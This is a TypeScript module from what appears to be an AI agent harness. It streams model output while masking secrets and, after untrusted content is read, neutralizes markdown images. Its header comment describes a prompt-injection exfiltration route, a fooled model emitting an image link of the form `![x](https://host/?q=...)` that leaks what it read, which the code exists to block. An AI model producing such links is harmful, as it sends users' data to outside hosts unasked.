// One call of the model with its text streamed as events: masked of the user's secrets across
// deltas, and, once the run has read untrusted content, with what would make a renderer fetch a
// URL unasked made inert (core/markdown-images.ts): an editor's agent panel or a chat page would
// otherwise send a fooled model's `![x](https://host/?q=<what it read>)` out with no rule asked.
// The answer kept (history, the final text, what is stored and resumed) is made inert the same
// way, so every later reader sees what was streamed. Reasoning streams through the same filter;
// the reasoning kept is left as the provider signed it (it goes back to the provider only), and
// an editor's replay of it is made inert there (acp/session-replay.ts).
import { serializeError } from "../core/errors.js";
import { inertImageStream, inertImages } from "../core/markdown-images.js";
import type { ChatRequest, ChatResult } from "../providers/index.js";
import type { RunState } from "./run-state.js";

interface TextFilter {
  push(delta: string): string;
  end(): string;
}

/** The secrets' mask, then (in an untrusted run) the images' filter, over one stream. */
function textFilter(state: RunState, inert: boolean): TextFilter | undefined {
  const masked = state.deps.secrets?.redactStream();
  if (!inert) return masked;
  const images = inertImageStream();
  if (!masked) return images;
  return {
    push: (delta) => images.push(masked.push(delta)),
    end: () => images.push(masked.end()) + images.end(),
  };
}

/** The model's answer with its images made inert (its text parts and `text`). */
export function inertAnswer(chat: ChatResult): ChatResult {
  const content = chat.message.content.map((part) =>
    part.type === "text" ? { ...part, text: inertImages(part.text) } : part,
  );
  return { ...chat, text: inertImages(chat.text), message: { ...chat.message, content } };
}

export async function chatOnce(state: RunState, request: ChatRequest): Promise<ChatResult> {
  // Trust changes only between tool calls, never while the model answers.
  const inert = state.trust.untrusted;
  // The text as it streams is masked across deltas (a key split over two is still caught): a
  // delta shows what can no longer turn out to be part of a secret, the rest at the end.
  let text = textFilter(state, inert);
  let thinking = textFilter(state, inert);
  const emitText = (type: "text_delta" | "thinking_delta", delta: string) => {
    if (delta !== "") state.emit({ type, delta });
  };
  const result = await state.deps.provider.chat(request, {
    signal: state.deps.signal,
    onEvent: (event) => {
      if (event.type === "text_delta") emitText("text_delta", text ? text.push(event.delta) : event.delta);
      else if (event.type === "thinking_delta")
        emitText("thinking_delta", thinking ? thinking.push(event.delta) : event.delta);
      else {
        // The failed attempt's text ends here; the next one streams anew.
        if (text) emitText("text_delta", text.end());
        if (thinking) emitText("thinking_delta", thinking.end());
        text = textFilter(state, inert);
        thinking = textFilter(state, inert);
        const { notice } = event;
        state.emit({
          type: "provider_retry",
          attempt: notice.attempt,
          maxAttempts: notice.maxAttempts,
          delayMs: notice.delayMs,
          error: serializeError(notice.error),
        });
      }
    },
  });
  if (text) emitText("text_delta", text.end());
  if (thinking) emitText("thinking_delta", thinking.end());
  return inert ? inertAnswer(result) : result;
}
